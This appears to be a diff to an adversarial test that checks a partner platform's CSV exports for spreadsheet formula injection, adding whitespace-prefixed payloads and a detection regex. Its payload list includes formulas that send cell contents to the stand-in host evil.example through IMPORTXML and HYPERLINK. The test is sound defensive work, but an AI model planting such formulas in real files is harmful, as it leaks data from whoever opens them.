@@ -9,7 +9,7 @@
  */
 import { parse } from 'csv-parse/sync';
 import { expect } from 'chai';
-import { REPORT_NAMES } from '../../src/reports/export.service.js';
+import { MAX_EXPORTS_PER_PARTNER, REPORT_NAMES } from '../../src/reports/export.service.js';
 import type { Store } from '../../src/store/index.js';
 import { signInAs, startTestGateway, type TestGateway } from '../support/gateway.js';
 import { forEachStore } from '../support/store.js';
@@ -34,8 +34,13 @@ const PAYLOADS = [
   '\uFF20SUM(A7)',
   '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
   '=1+8\n=1+9',
+  ' =HYPERLINK("http://evil.example/?space","Click")',
+  '\n=1+10',
+  ' \r\n@SUM(A11)',
 ];
 const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
+/** Spreadsheets skip leading blanks before looking for a trigger. */
+const TRIGGER_AFTER_BLANKS = /^[ \t\r\n]+[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
 /** Columns whose cells Partnergate writes as numbers (ids, counts, amounts): a leading `-` is fine there. */
 const NUMERIC = new Set(['commission_id', 'contact_id', 'payout_id', 'promo_tool_id', 'subscription_id', 'amount', 'commission', 'payout_amount', 'commission_amount', 'earned', 'pending', 'clicks', 'leads', 'sales', 'commission_count', 'partner_id', 'bucket']);
 const GENUINE_NUMBER = /^-?\d+(\.\d+)?$/;
@@ -122,7 +127,7 @@ forEachStore('adversarial: CSV formula injection in every export', (ctx) => {
     this.timeout(60_000);
     const results: CaseResult[] = [];
     const seenPayloads = new Set<string>();
-    const downloads = await mapLimit(exportsToCheck(), 3, async (e) => {
+    const downloads = await mapLimit(exportsToCheck(), MAX_EXPORTS_PER_PARTNER, async (e) => {
       const res = await fetch(`${tg.url}${e.path}`, { headers: { cookie: e.cookie } });
       return { e, status: res.status, type: res.headers.get('content-type') ?? '', body: await res.text() };
     });
@@ -142,7 +147,7 @@ forEachStore('adversarial: CSV formula injection in every export', (ctx) => {
             return;
           }
           for (const p of PAYLOADS) if (cell.includes(p)) seenPayloads.add(p);
-          if (TRIGGERS.some((t) => cell.startsWith(t)) && !(numeric[i] && GENUINE_NUMBER.test(cell))) bad.push(`${header[i]}=${JSON.stringify(cell).slice(0, 50)}`);
+          if ((TRIGGERS.some((t) => cell.startsWith(t)) || TRIGGER_AFTER_BLANKS.test(cell)) && !(numeric[i] && GENUINE_NUMBER.test(cell))) bad.push(`${header[i]}=${JSON.stringify(cell).slice(0, 50)}`);
         });
       }
       results.push({ name: `${e.name}: no formula cell (${rows.length} rows)`, held: bad.length === 0, why: bad.slice(0, 5).join('; ') });
